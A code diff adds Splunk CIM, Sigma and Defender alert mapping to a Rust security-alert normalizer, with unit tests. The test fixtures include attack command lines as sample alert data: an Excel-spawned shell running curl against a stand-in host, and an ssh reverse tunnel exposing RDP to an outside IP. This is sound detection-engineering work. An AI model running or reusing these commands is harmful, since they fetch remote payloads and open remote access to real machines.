@@ -234,6 +234,18 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
     if let Some(flat) = evtx_event(&obj) {
         obj = flat;
     }
+    // Splunk ES notables carry the CIM Endpoint fields (`process` is the command line there).
+    if let Some(cim) = splunk_cim(&obj) {
+        obj = cim;
+    }
+    // A Sigma engine's match of a process-creation event: the event's own fields, no event id.
+    if !obj.contains_key("EventID")
+        && !obj.contains_key("process")
+        && obj.contains_key("Image")
+        && obj.contains_key("CommandLine")
+    {
+        obj.insert("EventID".into(), Json::from(1));
+    }
     let flat_windows = ["EventID", "EventId", "event_id"]
         .iter()
         .any(|k| obj.contains_key(*k))
@@ -297,6 +309,31 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         "kibana.alert.rule.parameters.threat",
     ] {
         collect_techniques(get_path(&doc, path), &mut techniques);
+    }
+    // Sigma tags (`attack.t1059.001`) and Defender's AttackTechniques ("Name (T1059)").
+    for path in [
+        "rule.tags",
+        "tags",
+        "sigma.tags",
+        "winlog.event_data.rule.tags",
+    ] {
+        if let Some(Json::Array(a)) = get_path(&doc, path) {
+            for t in a.iter().filter_map(Json::as_str) {
+                if let Some(id) = t.strip_prefix("attack.") {
+                    let id = id.to_uppercase();
+                    if crate::load::is_technique(&id) {
+                        push_unique(&mut techniques, &id);
+                    }
+                }
+            }
+        }
+    }
+    if let Some(t) = get_str(&doc, "AttackTechniques") {
+        for id in t.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
+            if crate::load::is_technique(id) {
+                push_unique(&mut techniques, id);
+            }
+        }
     }
     // Wazuh: rule.mitre.id is a list of technique ids.
     if let Some(Json::Array(a)) = get_path(&doc, "rule.mitre.id") {
@@ -438,6 +475,105 @@ fn evtx_event(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
         }
     }
     flat.contains_key("EventID").then_some(flat)
+}
+
+/// A Splunk notable (or any record) with CIM Endpoint.Processes fields, as an ECS document; the
+/// notable's fields stay under `splunk`. Also reads them from a `splunk` object (the Splunk
+/// source wraps each notable so).
+fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
+    let (r, wrapped) = match obj.get("splunk") {
+        Some(Json::Object(r)) => (r, true),
+        _ => (obj, false),
+    };
+    let text = |k: &str| match r.get(k) {
+        Some(Json::String(v)) if !v.is_empty() && v != "unknown" => Some(v.clone()),
+        Some(Json::Number(n)) => Some(n.to_string()),
+        _ => None,
+    };
+    let cmd = match r.get("process") {
+        Some(Json::String(c)) => Some(c.clone()),
+        _ => text("orig_process"),
+    };
+    if cmd.is_none() && text("process_name").is_none() && text("parent_process_name").is_none() {
+        return None;
+    }
+    let mut e = if wrapped { obj.clone() } else { Map::new() };
+    if !wrapped {
+        e.insert("splunk".into(), Json::Object(r.clone()));
+    }
+    e.remove("process");
+    let mut set = |path: &str, v: Option<String>| {
+        if let Some(v) = v {
+            set_path(&mut e, path, Json::String(v));
+        }
+    };
+    set("process.command_line", cmd);
+    set("process.name", text("process_name"));
+    set("process.executable", text("process_path"));
+    set(
+        "process.working_directory",
+        text("process_current_directory"),
+    );
+    set("process.parent.command_line", text("parent_process"));
+    set("process.parent.name", text("parent_process_name"));
+    set("process.parent.executable", text("parent_process_path"));
+    set(
+        "process.hash.sha256",
+        text("process_hash").map(|h| h.trim_start_matches("SHA256=").to_owned()),
+    );
+    set("destination.ip", text("dest_ip"));
+    set("url.full", text("url"));
+    if let Some(u) = text("user") {
+        match u.split_once('\\') {
+            Some((d, n)) => {
+                set("user.domain", Some(d.to_owned()));
+                set("user.name", Some(n.to_owned()));
+            }
+            None => set("user.name", Some(u)),
+        }
+    }
+    set("host.name", text("dest").or_else(|| text("host")));
+    set(
+        "rule.name",
+        text("rule_name").or_else(|| text("search_name")),
+    );
+    if !wrapped {
+        set("event.id", text("event_id"));
+        let t = text("_time").or_else(|| text("orig_time"));
+        let t = t.map(|t| match t.parse::<f64>() {
+            Ok(secs) => chrono::DateTime::from_timestamp(secs as i64, 0)
+                .map(|d| d.to_rfc3339())
+                .unwrap_or(t),
+            Err(_) => t,
+        });
+        set("@timestamp", t);
+        let techniques = r
+            .get("annotations.mitre_attack")
+            .or_else(|| r.get("annotations").and_then(|a| a.get("mitre_attack")))
+            .cloned();
+        match techniques {
+            Some(Json::Array(a)) => {
+                set_path(&mut e, "threat.technique.id", Json::Array(a));
+            }
+            Some(Json::String(t)) => {
+                set_path(
+                    &mut e,
+                    "threat.technique.id",
+                    Json::Array(vec![Json::String(t)]),
+                );
+            }
+            _ => {}
+        }
+    }
+    for (from, to) in [
+        ("process_id", "process.pid"),
+        ("parent_process_id", "process.parent.pid"),
+    ] {
+        if let Some(n) = text(from).and_then(|v| v.parse::<i64>().ok()) {
+            set_path(&mut e, to, Json::from(n));
+        }
+    }
+    Some(e)
 }
 
 /// A Wazuh alert's event, mapped onto ECS in place (the original `data` stays).
@@ -1213,6 +1349,46 @@ mod tests {
         assert_eq!(b.doc["process"]["command_line"], "cmd /c whoami");
         assert_eq!(b.doc["user"]["name"], "alice");
         assert_eq!(b.doc["event"]["code"], "4688");
+    }
+
+    #[test]
+    fn splunk_notables_sigma_matches_and_defender_alert_evidence_map_to_ecs() {
+        let n = from_json(json!({"_time": "1739961218", "event_id": "E13@@notable@@ee4f", "search_name": "Endpoint - X - Rule",
+            "annotations.mitre_attack": ["T1059.004"], "dest": "MBP-1", "user": "CORP\\lchen",
+            "process": "/bin/sh -c curl -sk https://x.example/m.sh", "process_name": "sh", "process_path": "/bin/sh", "process_id": "15502",
+            "parent_process": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "parent_process_name": "Microsoft Excel",
+            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel"}), "x").unwrap();
+        assert_eq!(n.id, "E13@@notable@@ee4f");
+        assert_eq!(
+            n.doc["process"]["command_line"],
+            "/bin/sh -c curl -sk https://x.example/m.sh"
+        );
+        assert_eq!(n.doc["process"]["parent"]["name"], "Microsoft Excel");
+        assert_eq!(n.doc["process"]["pid"], 15502);
+        assert_eq!(n.doc["user"]["name"], "lchen");
+        assert_eq!(n.doc["host"]["name"], "MBP-1");
+        assert_eq!(n.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
+        assert_eq!(n.doc["splunk"]["search_name"], "Endpoint - X - Rule");
+        // Sigma match: the event's fields, no EventID; the technique from the rule's tags.
+        let g = from_json(json!({"alert_id": "a1", "rule": {"title": "OSACompile Run-Only Execution", "tags": ["attack.execution", "attack.t1059.002"]},
+            "Computer": "MBA-1", "Image": "/usr/bin/osacompile", "CommandLine": "osacompile -x -e x -o /tmp/a.app", "User": "nd",
+            "ParentImage": "/bin/bash"}), "x").unwrap();
+        assert_eq!(g.doc["process"]["name"], "osacompile");
+        assert_eq!(
+            g.doc["host"]["os"]["type"], "linux",
+            "a Unix path; the playbook reads macOS from other fields"
+        );
+        assert_eq!(g.doc["threat"]["technique"]["id"], json!(["T1059.002"]));
+        // Defender AlertInfo + AlertEvidence
+        let d = from_json(json!({"Timestamp": "2025-02-06T22:47:31Z", "AlertId": "da1", "Title": "t",
+            "AttackTechniques": "[\"Protocol Tunneling (T1572)\", \"Command and Scripting Interpreter (T1059)\"]",
+            "EntityType": "Process", "FileName": "ssh.exe", "FolderPath": "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
+            "ProcessCommandLine": "ssh.exe -N -R 4:127.0.0.1:3389 t@146.70.87.22", "AccountName": "m", "DeviceName": "WS-1"}), "x").unwrap();
+        assert_eq!(d.doc["process"]["name"], "ssh.exe");
+        assert_eq!(
+            d.doc["threat"]["technique"]["id"],
+            json!(["T1572", "T1059"])
+        );
     }
 
     #[test]
